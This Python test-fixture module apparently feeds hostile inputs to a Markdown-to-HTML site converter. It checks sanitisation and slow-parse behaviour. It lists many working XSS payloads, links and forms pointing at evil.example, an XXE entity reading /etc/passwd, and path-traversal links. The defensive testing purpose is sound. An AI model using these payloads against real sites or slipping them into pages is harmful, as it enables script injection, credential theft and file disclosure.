"""Hostile texts below the fields: markup, links and shapes that are slow to convert."""

from __future__ import annotations

from hostile_cases.case import ARTICLE, Case

HEAD = "---\ntittel: Om katalogen\nsammendrag: x\nspråk: nb\n---\n\nOm katalogen.\n\n"

MARKUP = r"""
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<img src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="vbscript:x">x</a>
[x](javascript:alert(1))
[x](JAVASCRIPT:alert(1))
[x](java&#x0A;script:alert(1))
[x](&#106;avascript:alert(1))
[x](<javascript:alert(1)>)
[x]( javascript:alert(1))
[x](\x01javascript:alert(1))
[x](data:text/html;base64,PHNjcmlwdD4=)
[x]: javascript:alert(1)
<javascript:alert(1)>
<data:text/html,x>
![x](javascript:alert(1))
![x](data:image/svg+xml;base64,PHN2Zz4=)
![x" onerror="alert(1)](a.png)
![x](a.png "t\" onerror=\"alert(1)")
[x](https://a.no "t\" onmouseover=\"alert(1)")
[x](https://a.no"onmouseover="alert(1))
<iframe src=https://evil.example></iframe>
<object data=x></object>
<embed src=x>
<form action=https://evil.example><input name=a><button>x</button></form>
<base href=https://evil.example/>
<meta http-equiv=refresh content="0;url=https://evil.example">
<link rel=stylesheet href=https://evil.example/x.css>
<style>body{background:url(https://evil.example)}</style>
<p style="position:fixed;inset:0">x</p>
<div id="innhold" class="x">x</div>
<b id=q name=q>x</b>
<h1>x</h1>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<textarea></textarea><script>alert(1)</script>
<title></title><script>alert(1)</script>
<!--><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)>
<![CDATA[<script>alert(1)</script>]]>
<?php x ?><?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;
</body></html><script>alert(1)</script>
</article></main>
<p title='x' x="
<a b='
<x y=">
&lt;script&gt;alert(1)&lt;/script&gt;
\<script\>alert(1)\</script\>
`<script>alert(1)</script>`
    <script>alert(1)</script>
```<script>
~~~ " onclick=alert(1)
{: onclick=alert(1) }
# x {#"><script>alert(1)</script>}
# x {: onclick="alert(1)" }
<details ontoggle=alert(1) open><summary>x</summary></details>
<audio src=x onerror=alert(1)>
<video><source onerror=alert(1)></video>
<input autofocus onfocus=alert(1)>
<marquee onstart=alert(1)>
<a href=https://a.no target=_blank>x</a>
<a href="//evil.example/">x</a>
[x](//evil.example/)
[x](\\evil.example\x)
[x](/\evil.example)
[x](http:evil.example)
[x](https:/evil.example)
[x](https://user:pw@evil.example/)
[x](mailto:a@b.no?bcc=c@d.no)
[x](tel:123)
[x](ftp://a.no)
[x](file:///etc/passwd)
[x](blob:x)
[x](about:blank)
[x](../../../../etc/passwd)
[x](om.md?x)
[x](om.md#finnes-ikke)
[x](.)
[x](..)
[x](?)
[x](#)
[x](%)
[x](%00)
[x](%ff%fe)
[x](om%2emd)
[x](OM.md)
[x](om.md%20)
![x](%2e%2e/%2e%2e/etc/passwd)
![x](.git/config)
![x](site.yaml)
![](om.md)
<table><tr><td>x
| a | b |
{{ 7*7 }}{% raw %}{# x #}
<ruby><rt>x
<tt><script>alert(1)
<plaintext>
<xmp><script>
<template><script>alert(1)</script></template>
<slot name=x>
<svg><style><img src=x onerror=alert(1)></style>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<s<script>cript>alert(1)</s</script>cript>
<<script>alert(1);//<</script>
<img ""><script>alert(1)</script>">
<a/href="javascript:alert(1)">x</a>
<img src="x` `<script>alert(1)</script>"` `>
%3Cscript%3E
\u202ex
&#0; &#x0; &#xD800; &#x110000; &#65534;
&#x202e;x
&NewLine;::error::x
[^1]: x
x[^1]
*[HTML]: x
Term
: Definition
==x== ^^x^^ ~~x~~
[[wiki]] [TOC]
---
===
+++
%%%
$$x$$
""".strip().split("\n")
"""One text a line."""

REPEATED = (
    *('```a\n', '<b ', '[r][r]', '# x\n', '[', ']', '[x](', '![x](', '*', '* ', '*a ', '_a', '__a ', '~~a '),
    *('`', '> ', '- ', '|a', '<!--', '<![CDATA[', '<?', '<!A ', '&', '&#', '&a', '<a@', '<http:', 'http://'),
    *('www.', 'a@a.', '\\', '[a]: b\n', '<a x ', 'x="y" ', '<a x="', '<div>', '</div>', '<p>', 'a\n===\n'),
    *('* * ', '1.', '1', 'a', '\U0001f600', '\u0301', '\u202e', '\u200d', '\xa0', '1. januar ', '1–', '"'),
    *('? ', '<a href="[', '\\\n', '[^a]', '*[a]: b\n', '$', '&amp;', '- [ ] x\n', '<b>*a</b>*', '<', '>', '!['),
    *(':a:', '+ ', 'a\r', '| a | b |\n| - | - |\n', '{{', '{%', '::: x\n', '==a', '(('),
)  # fmt: skip
TIMES = 800
"""A text of most of these is below the limit of 25,000 characters, so that it is converted."""


def text_cases() -> list[Case]:
    """Return the cases of texts."""
    markup = [Case("markup", ascii(text[:60]), {ARTICLE: f"{HEAD}{text}\n".encode()}) for text in MARKUP]
    slow = [Case("repeated", ascii(text), {ARTICLE: f"{HEAD}{text * TIMES}\n".encode()}) for text in REPEATED]
    return [*markup, *slow]
